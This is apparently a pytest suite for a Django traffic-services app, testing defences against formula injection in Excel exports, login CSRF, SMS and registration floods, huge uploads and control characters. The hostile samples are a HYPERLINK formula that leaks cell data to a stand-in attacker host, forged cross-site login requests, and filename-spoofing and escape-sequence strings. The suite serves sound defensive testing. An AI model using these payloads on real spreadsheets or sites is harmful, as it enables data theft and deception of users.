"""Issue 17: hostile input through the public API and pages — formulas in exports, login CSRF,
SMS floods, registration floods, huge uploads and control characters in free text."""

from __future__ import annotations

import io
import json
import re
import tracemalloc
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client, override_settings
from django.utils import timezone
from openpyxl import load_workbook

from trafficdesk.core.spreadsheets import spreadsheet_safe
from trafficdesk.sites.models import ServicePoint


def en_client(**defaults: Any) -> Client:
    """A browser that asks for English (the default language is Chinese)."""
    return Client(HTTP_ACCEPT_LANGUAGE="en", **defaults)


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def test_spreadsheet_safe_prefixes_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_safe("贵阳") == "贵阳"
    assert spreadsheet_safe(-3) == -3


def test_dashboard_excel_export_writes_formula_like_names_as_text(
    client: Client, users: dict[str, Any]
) -> None:
    point = ServicePoint.objects.filter(region__code__startswith="5201").first()
    assert point is not None
    point.name_zh = FORMULA
    point.save(update_fields=["name_zh"])
    client.force_login(users["gz_admin"])
    export = client.get("/dashboard/?format=xlsx&region=520100")
    assert export.status_code == 200
    book = load_workbook(io.BytesIO(export.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formulas at all"
    names = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(name == "'" + FORMULA for name in names), names


# --- login CSRF ---------------------------------------------------------------------------

ATTACKER = "13900001717"


def _attackers_code(sms_outbox: list[tuple[str, str]]) -> str:
    from trafficdesk.accounts import services

    services.request_login_code(ATTACKER)
    text = [t for p, t in sms_outbox if p == ATTACKER][-1]
    match = re.search(r"\b(\d{6})\b", text)
    assert match
    return match.group(1)


def test_a_cross_site_text_plain_form_cannot_log_a_browser_in(
    db: Any, sms_outbox: list[tuple[str, str]]
) -> None:
    code = _attackers_code(sms_outbox)
    victim = en_client()
    body = json.dumps({"mobile": ATTACKER, "code": code})
    # <form enctype="text/plain" action=".../otp/verify"> on another site
    forged = victim.post(
        "/api/v1/accounts/otp/verify",
        body,
        content_type="text/plain",
        HTTP_ORIGIN="https://evil.example",
    )
    assert forged.status_code == 403, forged.content
    assert "did not come from this site" in forged.json()["detail"]
    assert "_auth_user_id" not in victim.session
    assert victim.get("/api/v1/accounts/me").status_code == 401
    # No Origin at all (an old browser, a stripped header): still not JSON, still refused.
    assert (
        victim.post("/api/v1/accounts/otp/verify", body, content_type="text/plain").status_code
        == 403
    )
    # JSON declared but sent from another site (a CORS preflight would be needed): refused.
    assert (
        victim.post(
            "/api/v1/accounts/otp/verify",
            body,
            content_type="application/json",
            HTTP_ORIGIN="https://evil.example",
        ).status_code
        == 403
    )
    assert (
        victim.post(
            "/api/v1/accounts/otp/request",
            json.dumps({"mobile": ATTACKER}),
            content_type="text/plain",
        ).status_code
        == 403
    )
    # The site's own JSON client (same origin) and API clients that name no origin log in.
    ok = victim.post(
        "/api/v1/accounts/otp/verify",
        body,
        content_type="application/json",
        HTTP_ORIGIN="http://testserver",
    )
    assert ok.status_code == 200, ok.content
    assert victim.get("/api/v1/accounts/me").status_code == 200


def test_the_login_page_still_works(db: Any, sms_outbox: list[tuple[str, str]]) -> None:
    browser = en_client(enforce_csrf_checks=True)
    page = browser.get("/accounts/login/")
    token = browser.cookies["csrftoken"].value
    sent = browser.post("/accounts/login/", {"mobile": ATTACKER, "csrfmiddlewaretoken": token})
    assert sent.status_code == 200, page.status_code
    text = [t for p, t in sms_outbox if p == ATTACKER][-1]
    code = re.search(r"\b(\d{6})\b", text).group(1)  # type: ignore[union-attr]
    done = browser.post("/accounts/login/verify/", {"code": code, "csrfmiddlewaretoken": token})
    assert done.status_code == 302


# --- SMS flood: a daily cap per phone -----------------------------------------------------


def _fill_the_day(phone: str, count: int, oldest_hours_ago: float) -> None:
    from trafficdesk.accounts.models import OtpChallenge
    from trafficdesk.core.identity import keyed_digest

    now = timezone.now()
    for n in range(count):
        challenge = OtpChallenge.objects.create(
            phone_digest=keyed_digest(phone),
            code_digest=f"x{n}",
            expires_at=now,
        )
        age = timedelta(hours=oldest_hours_ago) if n == 0 else timedelta(minutes=n)
        OtpChallenge.objects.filter(pk=challenge.pk).update(created_at=now - age)


@override_settings(OTP_DAILY_LIMIT_PER_PHONE=10)
def test_a_phone_gets_at_most_the_daily_cap_of_codes(
    db: Any, sms_outbox: list[tuple[str, str]]
) -> None:
    phone = "13900002424"
    _fill_the_day(phone, 9, oldest_hours_ago=23)
    first = en_client().post(
        "/api/v1/accounts/otp/request", {"mobile": phone}, content_type="application/json"
    )
    assert first.status_code == 200  # the 10th code of the day
    sent = len(sms_outbox)
    refused = en_client(REMOTE_ADDR="10.9.9.9").post(
        "/api/v1/accounts/otp/request", {"mobile": phone}, content_type="application/json"
    )
    assert refused.status_code == 429, refused.content
    detail = refused.json()["detail"]
    assert "10 codes in the last 24 hours" in detail and "Try again after" in detail, detail
    assert 3500 <= int(refused["Retry-After"]) <= 3700  # the oldest leaves the window in 1 h
    assert len(sms_outbox) == sent, "nothing sent over the cap"
    page = en_client(REMOTE_ADDR="10.9.9.8").post("/accounts/login/", {"mobile": phone})
    assert page.status_code == 429 and "Try again after" in page.content.decode()
    # Older challenges do not count.
    _fill_the_day("13900002525", 12, oldest_hours_ago=25)
    from trafficdesk.accounts.models import OtpChallenge

    OtpChallenge.objects.filter(created_at__gt=timezone.now() - timedelta(hours=24)).filter(
        code_digest__in=[f"x{n}" for n in range(1, 12)]
    ).update(created_at=timezone.now() - timedelta(hours=30))
    assert (
        en_client(REMOTE_ADDR="10.9.9.7")
        .post(
            "/api/v1/accounts/otp/request",
            {"mobile": "13900002525"},
            content_type="application/json",
        )
        .status_code
        == 200
    )


@override_settings(OTP_RATE_VERIFY_PER_IP="2/10m")
def test_the_verification_limit_is_a_setting(db: Any) -> None:
    client = en_client()
    statuses = [
        client.post(
            "/api/v1/accounts/otp/verify",
            {"mobile": "13900003131", "code": "000000"},
            content_type="application/json",
        )
        for _ in range(3)
    ]
    assert [s.status_code for s in statuses] == [400, 400, 429]
    assert statuses[-1]["Retry-After"] == "600"


# --- checkpoint registration flood ---------------------------------------------------------

TRAVELLER = {
    "name": "张三丰",
    "id_number": "11010519491231002X",
    "mobile": "13912345678",
    "plate": "贵A12345",
    "origin": "520115",
    "destination": "贵阳市南明区",
    "passengers": "2",
}


@override_settings(CHECKPOINT_RATE_PER_IP="3/10m")
def test_anonymous_registration_is_rate_limited_per_address(demo: Any) -> None:
    from trafficdesk.checkpoint.models import Registration

    flood = en_client(REMOTE_ADDR="10.1.1.1")
    statuses = [
        flood.post(
            "/api/v1/checkpoints/GY-N-TOLL/registrations",
            TRAVELLER,
            content_type="application/json",
        )
        for _ in range(3)
    ]
    assert [s.status_code for s in statuses] == [201, 201, 201]
    api = flood.post(
        "/api/v1/checkpoints/GY-N-TOLL/registrations", TRAVELLER, content_type="application/json"
    )
    assert api.status_code == 429 and api["Retry-After"] == "600"
    assert "register with the officer at the checkpoint" in api.json()["detail"]
    page = flood.post("/c/GY-N-TOLL/", TRAVELLER, HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 429 and "officer at the checkpoint" in page.content.decode()
    assert Registration.objects.count() == 3
    other = en_client(REMOTE_ADDR="10.1.1.2")
    assert other.post("/c/GY-N-TOLL/", TRAVELLER).status_code == 302


def test_the_default_registration_limit_stops_a_flood(demo: Any) -> None:
    flood = en_client(REMOTE_ADDR="10.1.1.3")
    statuses = {
        flood.post(
            "/api/v1/checkpoints/GY-N-TOLL/registrations",
            TRAVELLER,
            content_type="application/json",
        ).status_code
        for _ in range(50)
    }
    assert 429 in statuses


# --- uploads are streamed ------------------------------------------------------------------


def _as_server(client: Client, request: Any) -> tuple[Any, int]:
    """Run a prepared request through the whole stack, measuring the server's allocations
    only (the body was built, by the test, before tracing starts)."""
    from django.test.client import ClientHandler

    handler = ClientHandler(enforce_csrf_checks=False)
    tracemalloc.start()
    try:
        response = handler(request.environ)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return response, peak


def test_a_20_mb_upload_is_refused_without_being_read_into_memory(demo: Any) -> None:
    from django.test import RequestFactory

    from trafficdesk.accounts.models import User

    applicant = User.objects.create(username="uploader", mobile="13912349999", role="citizen")
    client = en_client()
    client.force_login(applicant)
    big = io.BytesIO(b"%PDF" + b"0" * (20 * 1024 * 1024))
    big.name = "big.pdf"
    request = RequestFactory().post(
        "/online/apply/D01/",
        {
            "driver_id": "11010519491231002X",
            "classes": "C1",
            "reason": "lost",
            "delivery_address": "贵阳市南明区花果园大街1号",
            "delivery_mobile": "13912349999",
            "files": big,
        },
        HTTP_COOKIE=f"sessionid={client.cookies['sessionid'].value}",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    del big
    response, peak = _as_server(client, request)
    assert response.status_code in (413, 422), response.status_code
    assert "larger than 5 MB" in response.content.decode()
    assert peak < 4 * 1024 * 1024, f"the server allocated {peak / 1e6:.1f} MB"


def test_a_body_over_the_request_limit_is_refused_before_it_is_read(db: Any) -> None:
    huge = str(200 * 1024 * 1024)
    api = en_client().post(
        "/api/v1/accounts/otp/request",
        b"{}",
        content_type="application/json",
        CONTENT_LENGTH=huge,
    )
    assert api.status_code == 413 and "too large" in api.json()["detail"]
    page = en_client().post(
        "/online/apply/D01/",
        b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=huge,
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert page.status_code == 413 and "at most 51 MB" in page.content.decode()


# --- control characters in free text -------------------------------------------------------

HOSTILE = ["张\x00三", "张三\u202egnp.exe", "张\x1b[31m三", "a\u2066b"]


@pytest.mark.parametrize("name", HOSTILE)
def test_control_characters_are_refused_through_the_api(demo: Any, name: str) -> None:
    from trafficdesk.checkpoint.models import Registration

    answer = en_client().post(
        "/api/v1/checkpoints/GY-N-TOLL/registrations",
        dict(TRAVELLER, name=name),
        content_type="application/json",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert answer.status_code == 422, answer.content
    body = answer.json()
    assert body["code"] == "text.control" and body["field"] == "name"
    assert "invisible control character" in body["detail"]
    assert not Registration.objects.exists()


@pytest.mark.parametrize("name", HOSTILE)
def test_control_characters_are_refused_through_a_page(demo: Any, name: str) -> None:
    from trafficdesk.checkpoint.models import Registration

    page = en_client().post(
        "/c/GY-N-TOLL/",
        dict(TRAVELLER, name=name),
        HTTP_ACCEPT_LANGUAGE="en",
        HTTP_REFERER="http://testserver/c/GY-N-TOLL/",
    )
    assert page.status_code == 422
    html = page.content.decode()
    assert "invisible control character" in html and 'data-testid="reason"' in html
    assert 'href="http://testserver/c/GY-N-TOLL/"' in html, "a way back to the form"
    assert not Registration.objects.exists()


def test_tabs_and_newlines_are_kept(demo: Any) -> None:
    answer = en_client().post(
        "/api/v1/checkpoints/GY-N-TOLL/registrations",
        dict(TRAVELLER, destination="贵阳市\t南明区\r\n花果园"),
        content_type="application/json",
    )
    assert answer.status_code == 201, answer.content


def test_the_validator() -> None:
    from trafficdesk.core.validators import InvalidValue, check_free_text

    for bad in ["\x00", "\x7f", "\x85", "\u202a", "\u202e", "\u2066", "\u2069", "\x0b"]:
        with pytest.raises(InvalidValue):
            check_free_text("a" + bad)
    assert check_free_text("张三\t\n\r 丰") == "张三\t\n\r 丰"
